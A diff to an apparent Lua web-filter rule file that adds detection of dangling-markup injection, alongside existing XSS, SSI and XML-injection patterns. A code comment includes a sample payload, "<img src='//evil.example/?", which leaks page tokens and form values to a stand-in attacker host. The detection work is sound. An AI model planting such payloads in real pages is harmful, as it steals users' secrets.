@@ -58,6 +58,9 @@ _M.RULES = {
       desc = "server-side include directive" },
     { id = "xss-xml", severity = "critical", pl = 1,
       desc = "XML entity declaration, XInclude or namespace injection" },
+    { id = "xss-dangling", severity = "critical", pl = 1,
+      desc = "dangling markup: a tag's fetched URL opens a quote to another host "
+             .. "and leaves it open (<img src='//host/?)" },
     { id = "xss-markup", severity = "notice", pl = 2,
       desc = "any HTML tag with attributes" },
 }
@@ -215,6 +218,14 @@ local RE_XML = alt({
     [=[<\s*[\w:-]+[^>]*\bsystem\s+["'](?:https?|file|ftp|php|jar|expect|gopher)]=],
 })
 local RE_MARKUP = [=[<[a-z][a-z0-9]*\s+[a-z-]+\s*=]=]
+-- Dangling markup: a tag whose fetched URL (src, background, poster,
+-- data, srcset: fetched as the page loads) opens a quote to another host
+-- and never closes it, so the page's own text up to the next such quote
+-- (a token, a form's values) becomes the URL's query ("<img
+-- src='//evil.example/?"). A link cut short ("<a href=\"https://x/docs")
+-- fetches nothing until clicked.
+local RE_DANGLING = [=[<[a-z][a-z0-9]*[\s/][^<>]*?\b(?:src|background|poster|data|srcset)]=]
+    .. [=[\s*=\s*(?:'(?:https?:)?//[^'<>]*|"(?:https?:)?//[^"<>]*)$]=]
 
 local CSS_NEEDLES = { "expression", "binding", "behavio", "url", "@import", "image-set" }
 local DOM_NEEDLES = {
@@ -574,6 +585,7 @@ local RULES = rules.compile({
     { id = "xss-obfuscation", needles = { "<" }, pattern = RE_SPACED_TAG },
     { id = "xss-ssi", needles = { "<" }, pattern = RE_SSI },
     { id = "xss-markup", needles = { "<" }, pattern = RE_MARKUP },
+    { id = "xss-dangling", needles = { "<" }, pattern = RE_DANGLING, plain = false },
     { id = "xss-xml", pattern = RE_XML,
       needles = { "entity", "xmlns", "xi:", "xsi:", "doctype", "system" } },
     { id = "xss-handler", needles = { "=" }, pattern = RE_HANDLER },
